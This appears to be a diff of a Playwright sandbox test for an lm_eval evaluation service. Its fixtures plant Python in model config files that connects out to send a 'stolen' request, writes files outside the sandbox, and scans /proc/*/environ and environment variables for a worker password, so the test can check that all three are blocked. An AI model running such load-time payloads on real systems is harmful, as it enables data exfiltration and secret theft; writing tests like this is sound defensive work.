@@ -2,15 +2,13 @@ import { spawnSync } from 'node:child_process';
 import { chmod, mkdir, readdir, readFile, realpath, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { expect, test } from '@playwright/test';
-import { modelIn } from '../../packages/stand-in-hub/src/models/model-folder.ts';
 import { plainRun, scoresOf } from './plain-run.ts';
-import { processesNaming, type RealSite, until, valuesOf, withSite } from './real-site.ts';
-import { CACHE, MODELS, NEWEST, TASKS } from './real-tools.ts';
+import { LLAMA, processesNaming, putLlama, type RealSite, until, valuesOf, withSite } from './real-site.ts';
+import { CACHE, NEWEST, TASKS } from './real-tools.ts';
 import { say, withFolder } from './run-tool.ts';
 
 const SANDBOX = join(import.meta.dirname, '../../deploy/lm_eval-in-sandbox');
 const LOADER = join(import.meta.dirname, 'obedient_loader.py');
-const MODEL = 'tiny-lab/tiny-llama';
 const SECRET = 'a-password-of-the-worker';
 
 test.skip(
@@ -44,17 +42,6 @@ async function flawedHarness(folder: string): Promise<string> {
   return program;
 }
 
-/** The small Llama, with these lines of Python in its configuration. */
-function putHostile(site: RealSite, id: string, code: string): void {
-  const spec = modelIn(join(MODELS, MODEL), id);
-  const config = JSON.parse(String(spec.files?.['config.json']));
-  const files = {
-    ...spec.files,
-    'config.json': Buffer.from(JSON.stringify({ ...config, runs_when_loaded: code })),
-  };
-  site.hub.putModel({ ...spec, files });
-}
-
 /** How the first attempt of a submission ended, as its author and an operator are told, and the log of lm_eval. */
 async function firstAttempt(site: RealSite, model: string, submission: number) {
   await until(`the attempt of ${model} to end`, async () => {
@@ -70,19 +57,19 @@ async function firstAttempt(site: RealSite, model: string, submission: number) {
 
 test('the real lm_eval in the sandbox makes the row that it makes outside of it', async () => {
   await withSite(async (site) => {
-    await site.submit(MODEL);
+    await site.submit(LLAMA);
     const worker = site.startWorker(await sandboxVariables(join(NEWEST, 'bin/lm_eval')));
     await until('the evaluation to be published', async () => {
       const { finished, failed } = await site.queue();
       expect(failed).toEqual([]);
       return finished.length > 0 ? true : null;
     });
-    const byHand = await plainRun(NEWEST, { model: MODEL });
-    expect(valuesOf(await site.entry(MODEL))).toEqual(scoresOf(byHand.results));
+    const byHand = await plainRun(NEWEST, { model: LLAMA });
+    expect(valuesOf(await site.entry(LLAMA))).toEqual(scoresOf(byHand.results));
     worker.child.kill('SIGTERM');
     await worker.ended;
     expect(await processesNaming(site.workerDir)).toEqual([]);
-    say(`${MODEL} in the sandbox: twelve scores equal those of a run by hand`);
+    say(`${LLAMA} in the sandbox: twelve scores equal those of a run by hand`);
   });
 });
 
@@ -91,10 +78,8 @@ test('a model whose code runs when it is loaded reaches nobody, writes nowhere, 
     await withSite(async (site) => {
       const stolen = join(CACHE, 'stolen');
       const hub = new URL(site.hub.url);
-      putHostile(
-        site,
-        'lab/calls-out',
-        [
+      const hostile = {
+        'lab/calls-out': [
           'import socket',
           'try:',
           `    socket.create_connection(("${hub.hostname}", ${hub.port}), 5).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")`,
@@ -102,12 +87,8 @@ test('a model whose code runs when it is loaded reaches nobody, writes nowhere, 
           'except OSError as error:',
           '    print("NOT REACHED:", error)',
           'socket.create_connection(("192.0.2.1", 80), 5)',
-        ].join('\n'),
-      );
-      putHostile(
-        site,
-        'lab/writes-out',
-        [
+        ],
+        'lab/writes-out': [
           'import os',
           `for path in [${[stolen, join(folder, 'stolen'), join(site.workerDir, 'stolen')].map((path) => JSON.stringify(path)).join(', ')}]:`,
           '    try:',
@@ -116,20 +97,17 @@ test('a model whose code runs when it is loaded reaches nobody, writes nowhere, 
           '    except OSError as error:',
           '        print("NOT WRITTEN:", error)',
           `open(${JSON.stringify(join(NEWEST, 'stolen'))}, "w")`,
-        ].join('\n'),
-      );
-      putHostile(
-        site,
-        'lab/looks-around',
-        [
+        ],
+        'lab/looks-around': [
           'import glob, os',
           'seen = [open(path, "rb").read() for path in glob.glob("/proc/*/environ")] + [repr(dict(os.environ)).encode()]',
           `print("SAW THE SECRET" if any(b"${SECRET}" in each for each in seen) else "NO SECRET in", len(seen))`,
           `open(${JSON.stringify(join(site.workerDir, '..', 'data', 'postgres', 'PG_VERSION'))})`,
-        ].join('\n'),
-      );
-      const models = ['lab/calls-out', 'lab/writes-out', 'lab/looks-around'];
-      for (const model of models) await site.submit(model);
+        ],
+      };
+      for (const [id, code] of Object.entries(hostile))
+        putLlama(site, id, 'config.json', { runs_when_loaded: code.join('\n') });
+      for (const model of Object.keys(hostile)) await site.submit(model);
       const worker = site.startWorker(await sandboxVariables(await flawedHarness(folder)));
       const [calls, writes, looks] = [
         await firstAttempt(site, 'lab/calls-out', 1),
@@ -150,7 +128,7 @@ test('a model whose code runs when it is loaded reaches nobody, writes nowhere, 
       expect(await processesNaming(site.workerDir)).toEqual([]);
       for (const [index, { shown }] of [calls, writes, looks].entries())
         say(
-          `${models[index]}: ${shown
+          `${Object.keys(hostile)[index]}: ${shown
             .split('\n')
             .filter((line) => line.includes('Error'))
             .at(-1)
